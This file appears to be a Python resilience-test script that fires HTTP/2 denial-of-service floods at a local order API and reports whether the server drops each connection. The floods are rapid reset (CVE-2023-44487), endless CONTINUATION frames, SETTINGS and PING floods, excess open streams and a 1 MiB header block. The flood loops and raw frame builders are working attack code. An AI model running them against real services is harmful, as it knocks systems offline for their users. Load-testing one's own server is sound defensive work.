"""HTTP/2 floods against the order API, one attack per connection, with PyPI's h2 (and raw frames where h2 will
not write them). Prints one JSON line per attack: how much was sent and whether the server ended the connection.

usage: h2flood.py PORT TOKEN ATTACK   (ATTACK: rapid_reset, continuation, settings, streams, headers, ping)
"""
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events

port, token, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]


def connect():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    tls = context.wrap_socket(raw, server_hostname="127.0.0.1")
    if tls.selected_alpn_protocol() != "h2":
        raise SystemExit(json.dumps({"attack": attack, "error": "no h2: %s" % tls.selected_alpn_protocol()}))
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    connection.initiate_connection()
    tls.sendall(connection.data_to_send())
    return tls, connection


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix):
    """HPACK's integer with a `prefix`-bit prefix (RFC 7541 5.1), the first byte's other bits 0."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    out = [limit]
    value -= limit
    while value >= 128:
        out.append((value % 128) + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A literal header field without indexing, no Huffman (RFC 7541 6.2.2)."""
    return b"\x00" + integer(len(name), 7) + name + integer(len(value), 7) + value


def headers(path="/v1/menu"):
    return [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", "127.0.0.1"),
            ("authorization", "Bearer " + token)]


def closed(tls):
    """Whether the server has closed the connection (or said GOAWAY), reading what it sent so far."""
    tls.settimeout(0.001)
    try:
        while True:
            data = tls.recv(65536)
            if not data:
                return True
            if b"\x07" in data[3:4] or data.find(b"\x00\x00\x08\x07") >= 0:
                pass
    except (ssl.SSLWantReadError, socket.timeout, BlockingIOError):
        return False
    except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
        return True
    finally:
        tls.settimeout(10)


def run():
    tls, connection = connect()
    sent = 0
    ended = False
    started = time.monotonic()
    try:
        if attack == "rapid_reset":
            # CVE-2023-44487: open a stream and reset it at once, 20,000 times.
            for i in range(20000):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, headers(), end_stream=True)
                connection.reset_stream(stream)
                tls.sendall(connection.data_to_send())
                sent += 1
                if i % 100 == 0 and closed(tls):
                    ended = True
                    break
        elif attack == "continuation":
            # HEADERS without END_HEADERS, then CONTINUATION frames that never end (CVE-2024-27316 and kin).
            block = b"\x82\x87\x84"  # :method GET, :scheme https, :path /
            tls.sendall(frame(0x1, 0x0, 1, block))
            for i in range(100000):
                tls.sendall(frame(0x9, 0x0, 1, b"\x40\x01x\x01y"))  # literal header x: y, again and again
                sent += 1
                if i % 100 == 0 and closed(tls):
                    ended = True
                    break
        elif attack == "settings":
            # SETTINGS frames, never reading the ACKs the server owes.
            for i in range(200000):
                tls.sendall(frame(0x4, 0x0, 0, struct.pack(">HI", 0x3, 100)))
                sent += 1
                if i % 1000 == 0 and closed(tls):
                    ended = True
                    break
        elif attack == "ping":
            for i in range(200000):
                tls.sendall(frame(0x6, 0x0, 0, b"12345678"))
                sent += 1
                if i % 1000 == 0 and closed(tls):
                    ended = True
                    break
        elif attack == "streams":
            # More streams at once than the server allows, each left open (no END_STREAM).
            for i in range(2000):
                stream = 1 + 2 * i
                encoded = connection.encoder.encode(headers())
                tls.sendall(frame(0x1, 0x4, stream, encoded))
                sent += 1
                if i % 50 == 0 and closed(tls):
                    ended = True
                    break
        elif attack == "headers":
            # One header list of 1 MiB in CONTINUATION frames of 16 KiB.
            big = connection.encoder.encode(headers()) + literal(b"x-big", b"a" * 1048576)
            chunks = [big[i:i + 16384] for i in range(0, len(big), 16384)]
            tls.sendall(frame(0x1, 0x0, 1, chunks[0]))
            for index, chunk in enumerate(chunks[1:]):
                last = index == len(chunks) - 2
                tls.sendall(frame(0x9, 0x4 if last else 0x0, 1, chunk))
                sent += 1
                if closed(tls):
                    ended = True
                    break
        else:
            raise SystemExit("unknown attack " + attack)
        if not ended:
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline and not ended:
                ended = closed(tls)
                time.sleep(0.05)
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
        ended = True
    print(json.dumps({"attack": attack, "sent": sent, "closedByServer": ended,
                      "seconds": round(time.monotonic() - started, 3)}))


run()
